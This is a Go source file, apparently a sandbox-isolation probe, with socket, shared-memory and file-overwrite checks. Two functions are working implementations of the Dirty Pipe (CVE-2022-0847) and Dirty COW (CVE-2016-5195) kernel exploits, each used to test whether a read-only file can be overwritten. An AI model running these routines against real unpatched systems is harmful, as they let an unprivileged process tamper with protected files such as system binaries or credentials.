package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"strconv"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

const dialTimeout = 2 * time.Second

// dial says what came of connecting; a unix address that begins with @ is an abstract one.
func dial(network, address string) error {
	conn, err := net.DialTimeout(network, address, dialTimeout)
	if err != nil {
		var number syscall.Errno
		if errors.As(err, &number) {
			return number
		}
		return err
	}
	defer func() { _ = conn.Close() }()
	_ = conn.SetReadDeadline(time.Now().Add(dialTimeout))
	text := make([]byte, 256)
	n, _ := conn.Read(text)
	fmt.Printf("read %q\n", text[:n])
	return nil
}

// speak tells a text to everybody who connects.
func speak(network, address, text string) error {
	listener, err := net.Listen(network, address)
	if err != nil {
		return err
	}
	fmt.Println("listening")
	for {
		conn, err := listener.Accept()
		if err != nil {
			return err
		}
		_, _ = conn.Write([]byte(text))
		_ = conn.Close()
	}
}

const sharedBytes = 4096

// share puts a text into System V shared memory under a key, and shared reads what is there.
func share(key, text string) error {
	memory, err := attach(key, unix.IPC_CREAT|0o666)
	if err != nil {
		return err
	}
	copy(memory, text)
	fmt.Println("shared")
	return nil
}

func shared(key string) error {
	memory, err := attach(key, 0)
	if err != nil {
		return err
	}
	fmt.Printf("read %q\n", memory[:64])
	return nil
}

func attach(key string, flags int) ([]byte, error) {
	number, err := strconv.Atoi(key)
	if err != nil {
		return nil, err
	}
	id, err := unix.SysvShmGet(number, sharedBytes, flags)
	if err != nil {
		return nil, err
	}
	return unix.SysvShmAttach(id, 0, 0)
}

// overwriteByPipe writes into a file that it opened for reading, where the kernel mixes up pipe buffers (CVE-2022-0847).
func overwriteByPipe(name string) error {
	file, err := unix.Open(name, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	var ends [2]int
	if err := unix.Pipe(ends[:]); err != nil {
		return err
	}
	full := make([]byte, 64<<10)
	if _, err := unix.Write(ends[1], full); err != nil {
		return err
	}
	if _, err := unix.Read(ends[0], full); err != nil {
		return err
	}
	offset := int64(0)
	if _, err := unix.Splice(file, &offset, ends[1], nil, 1, 0); err != nil {
		return err
	}
	if _, err := unix.Write(ends[1], []byte("overwritten")); err != nil {
		return err
	}
	return sameAsBefore(name)
}

const raceTime = 200 * time.Millisecond

// overwriteByRace writes through a private mapping while its pages are given up (CVE-2016-5195).
func overwriteByRace(name string) error {
	file, err := unix.Open(name, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	memory, err := unix.Mmap(file, 0, 4096, unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return err
	}
	own, err := unix.Open("/proc/self/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	end := time.Now().Add(raceTime)
	go func() {
		for time.Now().Before(end) {
			_ = unix.Madvise(memory, unix.MADV_DONTNEED)
		}
	}()
	for time.Now().Before(end) {
		if _, err := unix.Pwrite(own, []byte("overwritten"), int64(uintptr(unsafe.Pointer(&memory[0])))); err != nil {
			break // a kernel that lets nobody write there has no race
		}
	}
	_ = unix.Munmap(memory)
	return sameAsBefore(name)
}

// sameAsBefore says EROFS of a file that nothing was written to.
func sameAsBefore(name string) error {
	text, err := os.ReadFile(name)
	if err != nil {
		return err
	}
	if string(text[:min(len(text), 12)]) == "overwritten" || (len(text) > 11 && string(text[1:12]) == "overwritten") {
		return nil
	}
	return unix.EROFS
}
